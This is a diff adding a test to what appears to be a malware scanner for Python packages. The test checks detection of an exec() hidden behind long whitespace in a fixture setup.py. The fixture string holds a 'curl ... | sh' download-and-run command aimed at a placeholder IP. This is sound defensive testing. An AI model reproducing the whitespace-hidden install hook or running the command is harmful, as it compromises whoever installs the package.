@@ -116,3 +116,21 @@ test('a name decoded in place (`hook = b64decode(hook)`) holds the decoded text 
   const call = findings(source).find((f) => f.rule === 'egress-network-call');
   assert.equal(call?.destination?.host, 'hooks.example.invalid');
 });
+
+test('code in a constant string given to exec() is analysed as code that runs where the exec is', () => {
+  const inner = 'import os\\nos.system("curl -s http://192.0.2.9/x | sh")\\n';
+  const source = `from setuptools import setup${' '.repeat(120)};exec("""${inner}""")\nsetup(name="demo")\n`;
+  const files = analyzePythonFile('setup.py', new TextEncoder().encode(source), { role: 'setup' });
+  const hidden = files[0].findings.find((f) => f.rule === 'hidden-code');
+  assert.equal(hidden?.severity, 'high', '120 spaces hide an exec');
+  const payload = files.find((file) => file.path === 'setup.py#decoded-1');
+  const launch = payload?.findings.find((f) => f.rule === 'download-execute');
+  assert.equal(launch?.severity, 'critical', 'the curl | sh in the string is found, at install time');
+  assert.equal(launch.trigger, 'install');
+  const short = findings(`x = 1${' '.repeat(120)}; y = 2\n`);
+  assert.equal(
+    short.find((f) => f.rule === 'hidden-code'),
+    undefined,
+    '120 spaces before harmless code',
+  );
+});
